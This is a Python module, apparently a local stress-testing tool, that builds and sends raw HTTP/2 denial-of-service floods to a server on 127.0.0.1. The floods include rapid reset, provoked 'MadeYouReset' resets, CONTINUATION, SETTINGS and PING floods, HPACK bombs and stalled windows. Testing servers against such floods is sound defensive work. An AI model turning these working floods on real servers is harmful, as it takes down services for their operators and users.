"""Floods of HTTP/2 frames for flood.py: what each of their connections sends, and how they are sent."""

import select
import socket
import struct
import time

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# So many connections flood at once. One that the server closes is opened again.
CONNECTIONS = 8


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def text(value):
    """A string of HPACK of less than 127 octets, without Huffman codes."""
    return bytes((len(value),)) + value


def request(path, method=0x82):
    """A header block: the method from the static table, http, the path, and the authority `a`."""
    return bytes((method, 0x86, 0x04)) + text(path) + b"\x01" + text(b"a")


def begin(settings=b""):
    return PREFACE + frame(SETTINGS, payload=settings)


def streams(count):
    return range(1, 2 * count, 2)


def rapid_resets():
    block, cancel = request(b"/sleep/1000"), struct.pack(">I", 8)
    return begin() + b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, stream, block) + frame(RESET, 0, stream, cancel) for stream in streams(5000))


def provoked_resets():
    """MadeYouReset: an error of the stream, so that the server resets it."""
    block, update = request(b"/sleep/1000"), struct.pack(">I", 0x7FFFFFFF)
    return begin() + b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, stream, block) + frame(WINDOW_UPDATE, 0, stream, update) for stream in streams(5000))


def continuations():
    return begin() + frame(HEADERS, END_STREAM, 1, request(b"/plaintext")) + frame(CONTINUATION, 0, 1, text(b"x") * 100) * 5000


def settings():
    return begin() + frame(SETTINGS, payload=struct.pack(">HI", 4, 65_535)) * 20_000


def pings():
    return begin() + frame(PING, payload=b"12345678") * 20_000


def empty_data():
    return begin() + frame(HEADERS, END_HEADERS, 1, request(b"/echo", 0x83)) + frame(DATA, 0, 1) * 20_000


def hpack_bombs():
    """An entry of 4,000 octets in the table, and blocks of one octet for each time that it is meant."""
    entry = b"\x40" + text(b"x") + b"\x7f\xa1\x1e" + b"a" * 4000
    first = frame(HEADERS, END_STREAM | END_HEADERS, 1, request(b"/plaintext") + entry)
    bomb = request(b"/plaintext") + b"\xbe" * 16_000
    return begin() + first + b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, bomb) for stream in range(3, 201, 2))


def stalled_windows():
    """Large responses for which the client opens no window. The connection stays."""
    block = request(b"/bytes/1000000")
    return begin(struct.pack(">HI", 4, 0)) + b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, stream, block) for stream in streams(100))


# Part, what a connection sends.
FLOODS = {
    "resets": rapid_resets, "provoked-resets": provoked_resets, "continuations": continuations, "settings": settings, "pings": pings,
    "empty-data": empty_data, "hpack-bombs": hpack_bombs, "stalled-windows": stalled_windows}


def run(part, port, seconds):
    """Sends the flood on each connection as fast as the kernel takes it; the bytes sent and received, and the connections."""
    octets, end = FLOODS[part](), time.monotonic() + seconds
    sent = received = opened = 0
    poller, clients, unsent = select.epoll(), {}, {}

    def open_one():
        client = socket.create_connection(("127.0.0.1", port), 10)
        client.setblocking(False)
        clients[client.fileno()], unsent[client.fileno()] = client, memoryview(octets)
        poller.register(client.fileno(), select.EPOLLIN | select.EPOLLOUT)

    def close(fd):
        poller.unregister(fd)
        clients.pop(fd).close()

    while (left := end - time.monotonic()) > 0:
        while len(clients) < CONNECTIONS:
            open_one()
            opened += 1
        for fd, events in poller.poll(left):
            try:
                if events & (select.EPOLLIN | select.EPOLLERR | select.EPOLLHUP):
                    count = len(clients[fd].recv(1 << 16))
                    received += count
                    if count == 0:
                        close(fd)
                        continue
                if events & select.EPOLLOUT:
                    count = clients[fd].send(unsent[fd])
                    sent += count
                    unsent[fd] = unsent[fd][count:]
                    if not unsent[fd]:
                        poller.modify(fd, select.EPOLLIN)
            except BlockingIOError:
                pass
            except ConnectionError:
                close(fd)
    for client in clients.values():
        client.close()
    return sent, received, opened
